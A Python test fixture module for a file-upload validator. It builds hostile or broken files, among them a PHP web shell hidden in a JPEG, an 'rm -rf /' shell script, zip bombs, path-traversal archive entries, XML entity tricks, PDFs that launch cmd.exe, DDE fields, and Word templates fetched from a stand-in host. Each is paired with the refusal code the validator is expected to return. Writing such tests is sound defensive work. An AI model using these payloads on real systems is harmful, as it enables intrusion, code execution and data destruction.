"""Files that nobody sends in good faith, or that are broken; each with what is to become of it."""

import re
import struct
import warnings
import zlib
from functools import partial
from io import BytesIO
from zipfile import ZipFile, ZipInfo

from tests.files import JPEG, OFFICE, PDF, PNG, office, package, pdf

SCRIPT = b"<script>alert(1)</script>"
HTML = b"<!doctype html><html><body>" + SCRIPT
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
EXE = b"MZ\x90\x00\x03" + bytes(60) + b"PE\x00\x00" + bytes(200)
MACROS = f"{OFFICE}wordprocessingml.document.macroEnabled.main+xml".replace(OFFICE, "application/vnd.ms-word.")


FIELD = b'<w:r><w:fldChar w:fldCharType="begin"/><w:instrText> %s </w:instrText><w:fldChar w:fldCharType="end"/></w:r>'
#: XML that is read in an encoding in which «<!DOCTYPE» has other bytes.
IN_OTHER_LETTERS = b'<?xml version="1.0" encoding="cp037"?>' + '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'.encode(
    "cp037"
)


def bomb() -> bytes:
    """A few hundred kilobytes that unfold to 201 MB."""
    return office("docx", ("word/media/a.bmp", bytes(201 * 1024 * 1024)))


def lying_bomb() -> bytes:
    """The same, but its list says that the part has ten bytes."""
    content = office("docx", ("word/media/a.bmp", bytes(30 * 1024 * 1024)))
    size = struct.pack("<I", 30 * 1024 * 1024)
    return content.replace(size, struct.pack("<I", 10))


def locked() -> bytes:
    """A package whose parts are marked as encrypted."""
    content = bytearray(office("docx"))
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := content.find(mark, start)) >= 0:
            content[start + at] |= 1
            start += 4
    return bytes(content)


def twice() -> bytes:
    """Two parts of one name: one program reads the first, another the last."""
    made = BytesIO()
    with ZipFile(made, "w") as archive:
        for content in (b"<x/>", SCRIPT):
            with warnings.catch_warnings(action="ignore"):
                archive.writestr(ZipInfo("word/document.xml"), content)
    return made.getvalue()


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


#: Of a picture of 40,000 by 40,000 dots.
FRAME = b"\xff\xc0\x00\x0b\x08\x9c\x40\x9c\x40\x01\x01\x11\x00"


def png(width: int, height: int, *more: bytes) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + b"".join(more)
        + chunk(b"IDAT", zlib.compress(b""))
        + chunk(b"IEND", b"")
    )


def with_relations(kind: str, relations: bytes) -> bytes:
    folder = {"docx": "word/_rels/document.xml.rels", "xlsx": "xl/_rels/workbook.xml.rels"}[kind]
    return office(kind, (folder, relations))


def with_relation(kind: str, relation: str, target: str) -> bytes:
    """What has an address or leads to another folder stands outside of the package."""
    outside = ' TargetMode="External"' if re.search(r"[:\\\\]", target) else ""
    of = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/" + relation
    each = f'<Relationship Id="rId1" Type="{of}" Target="{target}"{outside}/>'
    return with_relations(kind, f"<Relationships>{each}</Relationships>".encode())


def with_text(text: bytes) -> bytes:
    return office("docx", ("word/header1.xml", b'<w:hdr xmlns:w="w">' + text + b"</w:hdr>"))


def inside_one_another(depth: int) -> bytes:
    made = office("xlsx")
    for number in range(depth):
        made = office("docx", (f"word/embeddings/{number}.docx", made))
    return made


def many_pages(number: int) -> bytes:
    return pdf(*[""] * number)


ENCRYPTED = pdf(
    "rahasia",
    more=(b"<< /Filter /Standard /V 1 /R 2 /O (" + b"a" * 32 + b") /U (" + b"b" * 32 + b") /P -60 >>",),
    trailer="/Encrypt 3 0 R /ID [(0123456789abcdef) (0123456789abcdef)]",
)

#: Name → the name and content of a file that is refused (or what makes it), and the code of the refusal.
REFUSED = {
    "HTML as PDF": ("surat.pdf", HTML, "type"),
    "SVG with a script": ("peta.png", SVG, "type"),
    "script of a shell": ("surat.pdf", b"#!/bin/sh\nrm -rf /\n", "type"),
    "program as PDF": ("surat.pdf", EXE, "type"),
    "program of Linux": ("surat.pdf", b"\x7fELF" + bytes(60), "type"),
    "PHP as JPEG": ("foto.jpg", b"<?php system($_GET[0]); ?>", "type"),
    "GIF": ("foto.gif", b"GIF89a" + bytes(40), "type"),
    "RTF": ("surat.rtf", b"{\\rtf1 surat}", "type"),
    "PDF not at the beginning": ("surat.pdf", b"\n" + PDF, "type"),
    "program before a PDF": ("surat.pdf", b"MZ" + PDF, "type"),
    "nothing": ("surat.pdf", b"", "empty"),
    "PDF and HTML at once": ("surat.pdf", PDF.replace(b"%PDF-1.7\n", b"%PDF-1.7\n%" + HTML + b"\n"), "disguised"),
    "PDF and ZIP at once": ("surat.pdf", PDF + package(("a.class", EXE)), "disguised"),
    "JPEG and ZIP at once": ("foto.jpg", JPEG + package(("a.class", EXE)), "disguised"),
    "JPEG with PHP": ("foto.php.jpg", JPEG[:20] + b"<?php system($_GET[0]); ?>" + JPEG[20:], "disguised"),
    "PNG with a tail": ("foto.png", PNG + b"#!/bin/sh", "damaged"),
    "PNG cut off": ("foto.png", PNG[:-6], "damaged"),
    "JPEG cut off": ("foto.jpg", JPEG[:-2], "damaged"),
    "picture of a billion dots": ("foto.png", png(40_000, 40_000), "too_many_dots"),
    "picture of two sizes": ("foto.jpg", JPEG[:20] + FRAME + JPEG[20:], "too_many_dots"),
    "PNG of two sizes": ("foto.png", png(40_000, 40_000, chunk(b"IHDR", PNG[16:29])), "too_many_dots"),
    "PDF cut off": ("surat.pdf", PDF[: len(PDF) // 2], "damaged"),
    "PDF without pages": ("surat.pdf", pdf(), "damaged"),
    "PDF of rubbish": ("surat.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 20 + b"\n%%EOF\n", "damaged"),
    "PDF under a password": ("surat.pdf", ENCRYPTED, "encrypted"),
    "PDF of too many pages": ("surat.pdf", partial(many_pages, 1001), "pages"),
    "PDF of 10,000 pages": ("surat.pdf", partial(many_pages, 10_000), "pages"),
    "PDF with a script": (
        "surat.pdf",
        pdf("a", catalog="/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        "active",
    ),
    "PDF with a hidden script": (
        "surat.pdf",
        pdf("a", more=(b"<< /Type /Action /S /#4aavaScript /J#53 (app.alert(1)) >>",)),
        "active",
    ),
    "PDF with a packed script": (
        "surat.pdf",
        pdf("a", catalog="/OpenAction 3 0 R", more=(b"[ << /Next << /S /JavaScript /JS (a) >> >> ]",)),
        "active",
    ),
    "PDF with a script that no list names": (
        "surat.pdf",
        PDF.replace(b"startxref", b"99 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\nstartxref"),
        "active",
    ),
    "PDF that starts a program named elsewhere": (
        "surat.pdf",
        pdf("a", catalog="/OpenAction << /S 3 0 R /F (cmd.exe) >>", more=(b"/L#61unch",)),
        "active",
    ),
    "PDF that starts a program": ("surat.pdf", pdf("a", catalog="/OpenAction << /S /Launch /F (cmd.exe) >>"), "active"),
    "PDF with a file inside": (
        "surat.pdf",
        pdf("a", catalog="/Names << /EmbeddedFiles << /Names [(a.exe) 3 0 R] >> >>", more=(b"<< /Type /Filespec >>",)),
        "holding",
    ),
    "ZIP archive": ("arsip.zip", package(("a.txt", b"a")), "type"),
    "ZIP as DOCX": ("surat.docx", package(("a.exe", EXE)), "type"),
    "DOCX with macros": ("surat.docm", office("docx", main=MACROS), "macros"),
    "DOCX with macros, renamed": ("surat.docx", office("docx", ("word/vbaProject.bin", b"\xd0\xcf")), "macros"),
    "XLSX with ActiveX": ("tabel.xlsx", office("xlsx", ("xl/activeX/activeX1.xml", b"<x/>")), "macros"),
    "DOCX with a program": ("surat.docx", office("docx", ("word/embeddings/oleObject1.bin", EXE)), "macros"),
    "ODT with macros": ("surat.odt", office("odt", ("Basic/Standard/Module1.xml", b"<x/>")), "macros"),
    "DOCX in front of a ZIP": ("surat.docx", EXE + office("docx"), "type"),
    "program behind a DOCX": ("surat.docx", office("docx") + EXE, "damaged"),
    "DOCX under a password": ("surat.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old_office"),
    "DOCX with locked parts": ("surat.docx", locked(), "damaged"),
    "DOCX cut off": ("surat.docx", office("docx")[:-30], "damaged"),
    "DOCX with a way out": ("surat.docx", office("docx", ("../../etc/cron.d/a", b"x")), "damaged"),
    "DOCX with entities": (
        "surat.docx",
        package(("[Content_Types].xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')),
        "damaged",
    ),
    "part twice": ("surat.docx", twice(), "damaged"),
    "part twice, in other letters": ("surat.docx", office("docx", ("WORD/document.XML", b"<x/>")), "damaged"),
    "DOCX with a way out of Windows": ("surat.docx", office("docx", ("..\\..\\mulai.xml", b"<x/>")), "damaged"),
    "DOCX with entities in other letters": (
        "surat.docx",
        package(("[Content_Types].xml", IN_OTHER_LETTERS), ("word/document.xml", b"<x/>")),
        "damaged",
    ),
    "DOCX with relations in other letters": ("surat.docx", with_relations("docx", IN_OTHER_LETTERS), "damaged"),
    "DOCX with entities in its relations": (
        "surat.docx",
        with_relations("docx", b'<!DOCTYPE a [<!ENTITY b "c">]><Relationships>&b;</Relationships>'),
        "damaged",
    ),
    "DOCX and ODT at once": ("surat.odt", office("odt", ("[Content_Types].xml", b"<Types/>")), "damaged"),
    "DOCX with macros of another name": ("surat.docx", with_relation("docx", "vbaProject", "gambar.dat"), "macros"),
    "DOCX with an object of another name": (
        "surat.docx",
        office("docx", ("word/media/image1.png", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600))),
        "macros",
    ),
    "DOCX with a program as picture": ("surat.docx", office("docx", ("word/media/image1.png", EXE)), "macros"),
    "DOCX with a related object": ("surat.docx", with_relation("docx", "oleObject", "benda.dat"), "macros"),
    "XLSX with old macros": ("tabel.xlsx", office("xlsx", ("xl/macrosheets/sheet1.xml", b"<x/>")), "macros"),
    "DOCX with macros in a table": (
        "surat.docx",
        office("docx", ("word/embeddings/a.xlsx", office("xlsx", ("xl/vbaProject.bin", b"\0")))),
        "macros",
    ),
    "DOCX with packages in packages": ("surat.docx", inside_one_another(4), "bomb"),
    "DOCX with a bomb inside": (
        "surat.docx",
        lambda: office(
            "docx",
            ("word/embeddings/a.xlsx", office("xlsx", ("a.bmp", bytes(150 * 1024 * 1024)))),
            ("word/media/a.bmp", bytes(60 * 1024 * 1024)),
        ),
        "bomb",
    ),
    **{
        f"DOCX with a template of {where}": ("surat.docx", with_relation("docx", "attachedTemplate", where), "fetches")
        for where in (
            "https://jahat.example/a.dotm",
            "\\\\jahat\\a.dotm",
            "file://jahat/a.dotm",
            "file:///\\\\jahat\\a",
        )
    },
    "DOCX with an object from afar": (
        "surat.docx",
        with_relation("docx", "oleObject", "mhtml:http://a.example!x"),
        "fetches",
    ),
    "DOCX that starts a program": ("surat.docx", with_text(FIELD % b"DDEAUTO c:\\a.exe"), "macros"),
    "DOCX that starts a program, in pieces": (
        "surat.docx",
        with_text(FIELD % b"D</w:instrText></w:r><w:r><w:instrText>&#68;E cmd"),
        "macros",
    ),
    "DOCX that starts a program by a simple field": (
        "surat.docx",
        with_text(b'<w:fldSimple w:instr=" DDE cmd a"/>'),
        "macros",
    ),
    "XLSX that starts a program": (
        "tabel.xlsx",
        office(
            "xlsx", ("xl/externalLinks/externalLink1.xml", b'<externalLink><ddeLink ddeService="cmd"/></externalLink>')
        ),
        "macros",
    ),
    "ODS that starts a program": (
        "tabel.ods",
        office("ods", ("Object 1/content.xml", b'<x><office:dde-source office:dde-application="cmd"/></x>')),
        "macros",
    ),
    "bomb as DOCX": ("surat.docx", bomb, "bomb"),
    "lying bomb as DOCX": ("surat.docx", lying_bomb, "damaged"),
    "DOCX of a hundred thousand parts": (
        "surat.docx",
        office("docx", *((f"word/{number}.xml", b"") for number in range(5100))),
        "bomb",
    ),
}


def refused_file(name: str) -> tuple[str, bytes, str]:
    called, content, code = REFUSED[name]
    return called, content() if callable(content) else content, code
